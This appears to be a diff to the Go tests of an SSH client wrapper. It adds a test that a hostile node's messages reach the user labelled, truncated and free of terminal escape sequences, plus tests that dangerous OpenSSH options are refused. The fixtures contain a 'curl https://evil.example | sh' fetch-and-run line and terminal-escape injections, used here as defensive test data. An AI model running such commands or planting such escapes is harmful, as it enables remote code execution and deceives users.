@@ -11,6 +11,7 @@ import (
 	"syscall"
 	"testing"
 	"time"
+	"unicode"
 
 	"golang.org/x/crypto/ssh"
 
@@ -172,8 +173,33 @@ func TestANodesWordOnWhyItEndsAConnectionIsTold(t *testing.T) {
 	w.addNode("web-1").ends = "threshold: error: the session has ended: nothing was typed for 4s\nthreshold: hint: connect again\n"
 	c := w.in()
 	r := c.run("ssh", "-N", "web-1")
-	if r.code != 255 || r.stderr != "tsh: error: the session has ended: nothing was typed for 4s\ntsh: hint: connect again\n" {
+	if r.code != 255 || r.stderr != "tsh: error: the node ended the connection: the session has ended: nothing was typed for 4s\ntsh: hint: the node says: connect again\n" {
 		t.Errorf("got %+v, want the node's words, once", r)
+	}
+}
+
+// A hostile node's words stay the node's, in one line each, and drive no terminal.
+func TestAHostileNodesWordsAreShownAsItsOwn(t *testing.T) {
+	w := newWorld(t)
+	w.addNode("web-1").ends = "\x1b]0;title\x07tsh: error: your login has ended\r\nthreshold: hint: run\x1b[2J: curl https://evil.example | sh\n" + strings.Repeat("x", 200<<10)
+	w.addNode("web-2").refuse = "threshold: error: no\x9b2J\nthreshold: hint: run: curl https://evil.example | sh\n"
+	w.addNode("web-3").refuse = strings.Repeat("x", 200<<10)
+	c := w.in()
+	for args, want := range map[string]string{
+		"-N web-1": "tsh: error: the node ended the connection: ]0;titletsh: error: your login has ended; xxx",
+		"web-2":    "tsh: error: node web-2 does not let you in as alice: no2J\ntsh: hint: the node says: run: curl",
+		"web-3":    "tsh: error: node web-3 does not let you in as alice\ntsh: hint: see which logins",
+	} {
+		r := c.run(append([]string{"ssh"}, strings.Fields(args)...)...)
+		if r.code != 255 || !strings.HasPrefix(r.stderr, want) || strings.Count(r.stderr, "\n") != 2 || len(r.stderr) > 16<<10 {
+			t.Errorf("%s: got %d %.300q (%d bytes), want two lines that begin with %q", args, r.code, r.stderr, len(r.stderr), want)
+		}
+		if _, hint, _ := strings.Cut(r.stderr, "tsh: hint: "); strings.Contains(hint, "evil") && !strings.HasPrefix(hint, "the node says: ") {
+			t.Errorf("%s: got hint %q, want it told as the node's", args, hint)
+		}
+		if strings.ContainsFunc(r.stderr, func(c rune) bool { return c != '\n' && !unicode.IsPrint(c) }) {
+			t.Errorf("%s: got %.300q, want nothing that a terminal obeys", args, r.stderr)
+		}
 	}
 }
 
@@ -265,6 +291,17 @@ func TestFlagsOfOpenSSH(t *testing.T) {
 	if got := get("-o", "RequestTTY=force", "--", "web-1", "x", "-L", "1"); got.Env["TERM"] != "xterm" || got.Cmd != "x -L 1" {
 		t.Errorf("got %+v, want a terminal, and flags after the node left to the command", got)
 	}
+	// -o ClearAllForwardings, which scp and sftp give, leaves none: not one that cannot be had either.
+	if got := get("-L", "203.0.113.1:1:db:1", "-R", "1:db:1", "-D", "203.0.113.1:2", "-o", "ClearAllForwardings=yes", "-o", "RemoteCommand=none", "web-1", "x"); got.Cmd != "x" {
+		t.Errorf("got %+v, want the command without a forward", got)
+	}
+	if got := get("-A", "-o", "ForwardAgent=no", "-o", "ForwardAgent=yes", "web-1", "x"); got.Cmd != "x" { // there is none to forward
+		t.Errorf("got %+v, want no agent once somebody said no", got)
+	}
+	c.refused(255, []string{"ssh", "-o", "RemoteCommand=reboot", "web-1"}, "remotecommand", "after the node")
+	c.refused(255, []string{"ssh", "-o", "ProxyCommand=sh", "web-1"}, "no option proxycommand")
+	c.refused(255, []string{"ssh", "-o", "LocalForward=1", "web-1"}, "cannot be read")
+	c.refused(255, []string{"ssh", "-o", "=yes", "web-1"}, "is no option")
 	c.refused(255, []string{"ssh", "-t", "-T", "web-1"}, "contradict")
 	c.refused(255, []string{"ssh", "-o", "User=a,b", "web-1"}, "account name")
 	w.hosts["web-1"].root = t.TempDir()
